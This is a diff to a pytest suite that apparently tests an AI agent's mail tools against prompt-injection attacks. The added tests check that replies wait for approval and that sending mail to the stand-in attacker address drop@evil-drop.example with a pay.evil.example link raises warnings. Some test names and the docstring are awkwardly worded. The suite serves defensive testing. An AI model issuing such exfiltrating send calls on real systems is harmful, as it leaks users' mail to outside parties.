@@ -74,6 +74,37 @@ async def test_attack_425_words_that_hold_the_key_of_a_mail_make_no_answer_of_a_
     assert told == [f"dave@example.net {CALLED}"]
 
 
+# Attack 429: a mail that is read in a question about it ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("tool", "asked"),
+    [
+        ("send_message", ANSWER),
+        ("resend_message", {"domain": DOMAIN, "storage_key": KEY, "to": [f"support@{DOMAIN}"]}),
+    ],
+)
+async def test_attack_429_mail_that_a_question_shows_counts_as_read(
+    desk: Desk, tool: str, asked: dict[str, Any]
+) -> None:
+    """An app of the host is given all of it, and a short one is in the answer."""
+    came_in(desk, text=SAYS)
+    async with desk.open() as house, house.client() as client:
+        waits = structured(await client.call_tool(tool, asked))
+        assert waits["status"] == "approval_required", waits
+        call = {**LETTER, "to": ["drop@evil-drop.example"], "text": "https://pay.evil.example/in"}
+        content = structured(await client.call_tool("send_message", call))
+    assert content["warnings"][:2] == [f"drop@evil-drop.example {CALLED}", f"pay.evil.example {CALLED}"]
+
+
+async def test_an_answer_that_is_proposed_anew_is_to_who_wrote_still(desk: Desk) -> None:
+    came_in(desk, text=SAYS)
+    async with desk.open() as house, house.client() as client:
+        for text in ("It left on Monday.", "It left on Tuesday."):
+            content = structured(await client.call_tool("send_message", {**ANSWER, "text": text}))
+            assert [line for line in content["warnings"] if "came in" in line] == []
+
+
 # Attack 421: changed by a process that read nothing ---------------------------------------------------------------
 
 
